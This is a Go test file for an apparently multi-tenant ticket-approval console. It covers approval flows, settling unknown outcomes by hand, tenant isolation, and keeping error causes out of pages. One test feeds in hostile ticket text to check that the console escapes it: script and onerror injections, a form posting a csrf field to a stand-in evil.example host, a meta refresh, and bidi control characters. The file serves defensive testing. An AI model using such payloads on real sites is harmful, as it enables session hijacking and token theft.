package console

import (
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/drawbridge-dev/drawbridge/connector"
	"github.com/drawbridge-dev/drawbridge/contracttests/sandbox"
	"github.com/drawbridge-dev/drawbridge/tickets"
)

// Guarantee: TIX4
// Guarantee: OPS2
func TestCardShowsEverythingAndApproveLetsItBeSentOnce(t *testing.T) {
	each(t, func(t *testing.T, k *desk) {
		b := k.as(acmeAlice)
		shows(t, b.get("/"), 200, "Nothing waits for you", "No account is connected yet")
		b.connect("alice")
		shows(t, b.get("/approvals"), 200, "Nothing waits for a decision")
		shows(t, b.get("/operations"), 200, "Nothing was written yet")
		d := draft
		d.Labels, d.Evidence = []string{"bug"}, []string{"007"}
		pending := k.propose(acmeAlice, d)
		path := strings.TrimPrefix(k.console.ApprovalLink(string(pending.Approval)), k.server.URL)
		shows(t, b.get("/"), 200, "To decide (1)")
		shows(t, b.get(path), 200, "/title string, 18 characters", "Checkout times out", "Since noon.", "/labels/0", "POST /api/v1/tickets", "007",
			pending.Digest, "waits for you", "Runs out", "alice", "drawbridge approvals show "+string(pending.Approval), "What the provider does by itself")
		if k.org.Total() != len(k.org.Tickets()) || len(k.org.Ledger()) != 0 {
			t.Fatal("something was written before the approval")
		}
		shows(t, b.post(path+"/approve", nil), 200, "approved; the next run of the same call sends it, once", "decided by alice", "Take it back")
		shows(t, b.post(path+"/approve", nil), 200, "decided by alice")
		shows(t, b.post(path+"/deny", nil), 409, "This can't be done any more", "The approval is approved.")
		if r := k.create(acmeAlice, d); r.Status != connector.StatusSuccess {
			t.Fatalf("the call answered %s %v", r.Status, r.Error)
		}
		shows(t, b.get(path), 200, "approved and used")
		if n := k.org.Count(d.Title); n != 1 {
			t.Errorf("the provider holds %d tickets, want 1", n)
		}
		shows(t, b.post(path+"/withdraw", nil), 409, "The approval is used.")
		lines, err := k.host.Ledger.Operations(t.Context(), "acme", filterOf(acmeAlice))
		if err != nil || len(lines) != 1 {
			t.Fatalf("%d operations (%v)", len(lines), err)
		}
		shows(t, b.get("/operations/"+string(lines[0].ID)), 200, "done", "verified: read back and compared", "dispatching to applied by")
	})
}

// Guarantee: TIX4
func TestDenyWithdrawAndExpiry(t *testing.T) {
	each(t, func(t *testing.T, k *desk) {
		b := k.as(acmeAlice)
		b.connect("alice")
		path := func(title string) string {
			d := draft
			d.Title = title
			return "/approvals/" + string(k.propose(acmeAlice, d).Approval)
		}
		denied := path("denied")
		shows(t, b.post(denied+"/deny", url.Values{"reason": {"wrong \u202e<project>"}}), 200, "denied, decided by alice", "Reason: wrong ⟨U+202E⟩<project>")
		shows(t, b.get("/operations/"+operationOf(t, k)), 200, "by alice: approval denied: wrong ⟨U+202E⟩<project>")
		shows(t, b.post(denied+"/approve", nil), 409, "The approval is denied.")
		withdrawn := path("withdrawn")
		b.post(withdrawn+"/approve", nil)
		shows(t, b.post(withdrawn+"/withdraw", nil), 200, "withdrawn, decided by alice")
		expired := path("expired")
		k.exec(`UPDATE operation_approval SET expires_at = 1 WHERE state = 'pending'`)
		shows(t, b.post(expired+"/approve", nil), 409, "The approval is expired.")
		shows(t, b.get(expired), 200, "expired")
		shows(t, b.get("/approvals"), 200, "Nothing waits for a decision")
		shows(t, b.get("/approvals?show=all"), 200, "denied", "withdrawn", "expired")
		if n := len(k.org.Ledger()); n != 0 {
			t.Errorf("%d writes at the provider, want none", n)
		}
	})
}

// Guarantee: OPS2
func TestHostileTicketTextIsShownAndNothingElse(t *testing.T) {
	t.Parallel()
	k := sqlite(t)
	b := k.as(acmeAlice)
	b.connect("alice")
	d := tickets.Draft{Project: "orders", Severity: "low",
		Title: "</bdi><script>alert(1)</script> {{.CSRF}} <img src=x onerror=alert(2)>",
		Body: "pay \u202e001 \u202cnow\u200b\n<form action=\"https://evil.example\"><input name=csrf></form>\n" +
			"⟨U+202E⟩ \U000E0041 </textarea><meta http-equiv=refresh content='0;url=//evil'>\n<!-- ]]> &lt;b&gt;"}
	path := "/approvals/" + string(k.propose(acmeAlice, d).Approval)
	for _, page := range []string{path, "/approvals", "/", "/operations/" + operationOf(t, k)} {
		a := b.get(page)
		for _, dangerous := range []string{"<script", "<img", "</textarea", "<!--", "\u202e", "\u202c", "\u200b", "\U000E0041"} {
			if strings.Contains(a.body, dangerous) {
				t.Errorf("%s has %q", page, dangerous)
			}
		}
		if inside := strings.Join(tag.FindAllString(a.body, -1), ""); strings.Contains(inside, "evil") || strings.Contains(inside, "alert") {
			t.Errorf("%s has foreign text in a tag: %s", page, inside)
		}
		if n := strings.Count(a.body, "<form"); n > 3 {
			t.Errorf("%s has %d forms", page, n)
		}
		if n := strings.Count(a.body, `name="csrf"`); n != strings.Count(a.body, "<form") {
			t.Errorf("%s: a text was taken for a template", page)
		}
	}
	shows(t, b.get(path), 200, "pay ⟨U+202E⟩001 ⟨U+202C⟩now⟨U+200B⟩", "characters do not show.", `\u{202E}001`, "{{.CSRF}}", "<script>alert(1)</script>", "&lt;b&gt;")
}

func operationOf(t *testing.T, k *desk) string {
	t.Helper()
	lines, err := k.host.Ledger.Operations(t.Context(), "acme", filterOf(acmeAlice))
	if err != nil || len(lines) == 0 {
		t.Fatalf("no operation (%v)", err)
	}
	return string(lines[0].ID)
}

// Guarantee: OPS2
func TestUnknownOutcomeIsLookedUpOrSettledByHand(t *testing.T) {
	each(t, func(t *testing.T, k *desk) {
		b := k.as(acmeAlice)
		b.connect("alice")
		lost := func(title string) string {
			err := k.org.AddRule(sandbox.Rule{Match: sandbox.Match{Method: "POST", Path: "/api/v1/tickets", Exact: true, Times: 1}, Effect: sandbox.Effect{Kind: "lose_answer_after_commit"}})
			if err != nil {
				t.Fatal(err)
			}
			d := draft
			d.Title = title
			b.post("/approvals/"+string(k.propose(acmeAlice, d).Approval)+"/approve", nil)
			r := k.create(acmeAlice, d)
			if r.Status != connector.StatusUnknown {
				t.Fatalf("the call answered %s", r.Status)
			}
			return "/operations/" + string(r.Effect.Operation)
		}
		path := lost("looked up")
		shows(t, b.get("/"), 200, "Outcome unknown (1)")
		shows(t, b.get(path), 200, "It may have been done. It is not sent again.", "Look now", "Settle by hand")
		shows(t, b.post(path+"/look", nil), 200, "done", "Found bya look-up")

		path = lost("by hand")
		shows(t, b.post(path+"/settle", url.Values{"state": {"applied"}, "reason": {" "}}), 400, "Settling by hand needs a reason.")
		shows(t, b.post(path+"/settle", url.Values{"state": {"maybe"}, "reason": {"saw it"}}), 400, "Something is missing or wrong")
		shows(t, b.post(path+"/settle", url.Values{"state": {"applied"}, "reason": {"saw it"}, "external_id": {"T-9"}}), 200,
			"Settled by hand, by alice", "T-9", "There is no receipt", "saw it")
		shows(t, b.post(path+"/settle", url.Values{"state": {"rejected"}, "reason": {"no"}}), 409, "Only an unknown outcome is settled by hand")
		if n := k.org.Count("looked up") + k.org.Count("by hand"); n != 2 {
			t.Errorf("the provider holds %d tickets, want 2", n)
		}
	})
}

// The answer to "yours?" must not tell "there?". Everything is asked for by three
// people: its owner, another principal of the tenant, the same name in another tenant.
//
// Guarantee: OPS2
func TestT12NobodySeesAnothersThings(t *testing.T) {
	each(t, func(t *testing.T, k *desk) {
		k.console.cfg.Deliveries = &fakeDeliveries{}
		owner := k.as(acmeAlice)
		con := string(owner.connect("alice"))
		pending := string(k.propose(acmeAlice, draft).Approval)
		d := draft
		d.Title = "another one"
		approval := string(k.propose(acmeAlice, d).Approval)
		operation := operationOf(t, k)
		type thing struct{ method, there, absent string }
		var things []thing
		for _, kind := range []struct{ path, there, absent string }{
			{"/approvals/", approval, "apr_aaaaaaaaaaaaaaaa"}, {"/operations/", operation, "op_aaaaaaaaaaaaaaaa"}, {"/connections/", con, "con_aaaaaaaaaaaaaaaa"}, {"/deliveries/", "dlv_1", "dlv_2"},
		} {
			for _, r := range routes {
				if strings.HasPrefix(r.path, kind.path+"{id}") {
					rest := strings.TrimPrefix(r.path, kind.path+"{id}")
					things = append(things, thing{r.method, kind.path + kind.there + rest, kind.path + kind.absent + rest})
				}
			}
			// A beginning must not work either: it would tell how others' ids begin.
			things = append(things, thing{"GET", kind.path + kind.there[:len(kind.there)-1], kind.path + kind.absent})
		}
		things = append(things, thing{"GET", "/approvals/apr_", "/approvals/zzzz"}, thing{"GET", "/connect?connection=" + con, "/connect?connection=con_aaaaaaaaaaaaaaaa"})
		if len(things) < 15 {
			t.Fatalf("%d things only", len(things))
		}
		for _, other := range []connector.Caller{acmeBob, globexAlice} {
			b := k.as(other)
			ask := func(method, path string) answer {
				if method == "POST" {
					return b.post(path, url.Values{"state": {"applied"}, "reason": {"r"}})
				}
				return b.get(path)
			}
			for _, th := range things {
				there, absent := ask(th.method, th.there), ask(th.method, th.absent)
				if there.status != 404 {
					t.Errorf("%v: %s %s is %d, want 404", other, th.method, th.there, there.status)
				}
				if diff := cmp.Diff(absent.body, there.body); diff != "" || absent.status != there.status {
					t.Errorf("%v: %s tells absent from forbidden:\n%s", other, th.there, diff)
				}
			}
			for _, list := range []string{"/", "/approvals?show=all", "/operations", "/connections", "/deliveries"} {
				body := b.get(list).body
				for _, id := range []string{con, approval, pending, operation, "dlv_1", draft.Title} {
					if strings.Contains(body, id) {
						t.Errorf("%v sees %s on %s", other, id, list)
					}
				}
			}
		}
		shows(t, owner.get("/approvals/"+approval), 200, "waits for you")
		shows(t, owner.get("/operations/"+operation), 200, "waits for an approval")
		shows(t, owner.get("/approvals/"+approval[:8]), 404)
	})
}

func TestDeliveriesPage(t *testing.T) {
	t.Parallel()
	f := &fakeDeliveries{}
	k := sqlite(t, func(c *Config) { c.Deliveries = f })
	b := k.as(acmeAlice)
	shows(t, b.get("/deliveries"), 200, "ticket.changed dlv_1", "parked: the handler failed")
	shows(t, b.get("/deliveries/dlv_1"), 200, "orders/7", "Let it go on")
	shows(t, b.post("/deliveries/dlv_1/replay", nil), 200)
	shows(t, b.post("/deliveries/dlv_1/unpark", nil), 200)
	if diff := cmp.Diff([]string{"replay dlv_1", "unpark dlv_1"}, f.moved); diff != "" {
		t.Error(diff)
	}
	shows(t, k.as(acmeBob).get("/deliveries"), 200, "No provider has sent anything yet")
	plain := sqlite(t).as(acmeAlice)
	shows(t, plain.get("/deliveries"), 404)
	if strings.Contains(plain.get("/").body, "Deliveries") {
		t.Error("a page that is not there is offered")
	}
}

// No page shows a cause, which is for the log.
func TestFailuresDoNotShowTheirCause(t *testing.T) {
	t.Parallel()
	k := sqlite(t)
	s := &session{token: "t", caller: acmeAlice, name: "alice"}
	for _, err := range []error{
		errors.New("pq: password leaked"),
		&connector.Error{Code: connector.CodeUnavailable, Message: "away", Err: errors.New("password leaked")},
		&connector.Error{Code: connector.CodeInternal, Message: "password leaked"},
	} {
		w := newRecorder()
		k.console.fail(w, newGet(t), s, err)
		if strings.Contains(w.Body.String(), "leaked") || w.Code < 500 {
			t.Errorf("%v: %d\n%s", err, w.Code, w.Body)
		}
	}
}

// BenchmarkApprovalPage is the server's part of the wait for a card: session,
// approval, opening what is sealed, and the page.
func BenchmarkApprovalPage(b *testing.B) {
	k := sqlite(b)
	browser := k.as(acmeAlice)
	browser.connect("alice")
	path := "/approvals/" + string(k.propose(acmeAlice, draft).Approval)
	request := browser.request("GET", path, nil)
	for _, c := range browser.client.Jar.Cookies(request.URL) {
		request.AddCookie(c)
	}
	for b.Loop() {
		w := newRecorder()
		k.console.Handler().ServeHTTP(w, request)
		if w.Code != 200 {
			b.Fatal(w.Code)
		}
	}
	b.ReportMetric(float64(b.Elapsed())/float64(time.Millisecond)/float64(b.N), "ms/page")
}
